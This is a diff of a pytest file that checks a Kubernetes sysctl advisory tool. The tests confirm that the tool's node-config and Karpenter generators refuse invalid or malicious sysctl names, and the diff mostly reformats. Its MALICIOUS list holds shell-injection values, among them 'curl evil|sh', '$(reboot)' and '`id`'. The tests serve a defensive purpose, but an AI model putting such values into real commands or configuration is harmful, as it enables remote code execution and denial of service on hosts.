@@ -17,10 +17,26 @@ from handlers.sysctl import karpenter, nodeconfig
 from handlers.sysctl.advice import advise
 from handlers.sysctl.facts import AL2, AL2023, BOTTLEROCKET, NodeFacts, NodegroupFacts, SysctlFacts
 
-MALICIOUS = ["net.ipv4.tcp_keepalive_time;curl evil|sh", "$(reboot)", "net.ipv4.tcp_keepalive_time' $(reboot) '",
-             "`id`", "net.ipv4.x\n/bin/sh", "net.ipv4.x y", "net.ipv4..x", "NET.IPV4.X", "a" * 254, ""]
-GOOD = ["net.ipv4.tcp_keepalive_time", "net/ipv4/tcp_keepalive_intvl", "kernel.shm_rmid_forced", "kernel.msg*",
-        "net.ipv4.ip_local_port_range", "fs.mqueue.msg_max"]
+MALICIOUS = [
+    "net.ipv4.tcp_keepalive_time;curl evil|sh",
+    "$(reboot)",
+    "net.ipv4.tcp_keepalive_time' $(reboot) '",
+    "`id`",
+    "net.ipv4.x\n/bin/sh",
+    "net.ipv4.x y",
+    "net.ipv4..x",
+    "NET.IPV4.X",
+    "a" * 254,
+    "",
+]
+GOOD = [
+    "net.ipv4.tcp_keepalive_time",
+    "net/ipv4/tcp_keepalive_intvl",
+    "kernel.shm_rmid_forced",
+    "kernel.msg*",
+    "net.ipv4.ip_local_port_range",
+    "fs.mqueue.msg_max",
+]
 
 
 @pytest.mark.parametrize("name", GOOD)
@@ -39,10 +55,14 @@ def test_every_generator_refuses_a_name_the_kernel_could_not_have(name):
         lambda: nodeconfig.al2023_user_data(sysctls),
         lambda: nodeconfig.bottlerocket_toml(sysctls),
         lambda: karpenter.al2_karpenter_user_data(sysctls),
-        *(lambda family=f: nodeconfig.files_for_nodegroup(family, "prod", "r", "ng", sysctls, False)
-          for f in (AL2, AL2023, BOTTLEROCKET)),
-        *(lambda family=f: karpenter.files_for_nodeclass("default", family, sysctls)
-          for f in (AL2, AL2023, BOTTLEROCKET)),
+        *(
+            lambda family=f: nodeconfig.files_for_nodegroup(family, "prod", "r", "ng", sysctls, False)
+            for f in (AL2, AL2023, BOTTLEROCKET)
+        ),
+        *(
+            lambda family=f: karpenter.files_for_nodeclass("default", family, sysctls)
+            for f in (AL2, AL2023, BOTTLEROCKET)
+        ),
     ]
     assert not nodeconfig.valid_sysctl(name)
     for generate in generators:
@@ -85,11 +105,22 @@ def test_a_pod_asking_for_a_malicious_sysctl_gets_no_file_with_it(name):
     facts = SysctlFacts(
         sysctls=((name, "60"), ("net.ipv4.tcp_keepalive_intvl", "10")),
         control_plane="v1.28.15-eks-1",
-        nodes=(NodeFacts(name="node-0", kubelet="v1.28.15-eks-1", kernel="5.10.219-208.866.amzn2.x86_64",
-                         os_image="Amazon Linux 2", nodegroup="ng"),),
+        nodes=(
+            NodeFacts(
+                name="node-0",
+                kubelet="v1.28.15-eks-1",
+                kernel="5.10.219-208.866.amzn2.x86_64",
+                os_image="Amazon Linux 2",
+                nodegroup="ng",
+            ),
+        ),
         nodegroups=(NodegroupFacts("ng", "AL2_x86_64", "1.28"),),
-        karpenter=False, namespace="default", namespace_labels={}, host_network=False,
-        cluster="prod", region="ap-northeast-1",
+        karpenter=False,
+        namespace="default",
+        namespace_labels={},
+        host_network=False,
+        cluster="prod",
+        region="ap-northeast-1",
     )
     advice = advise(facts)
     files = [f for finding in advice.findings for f in finding.data.get("files", [])]
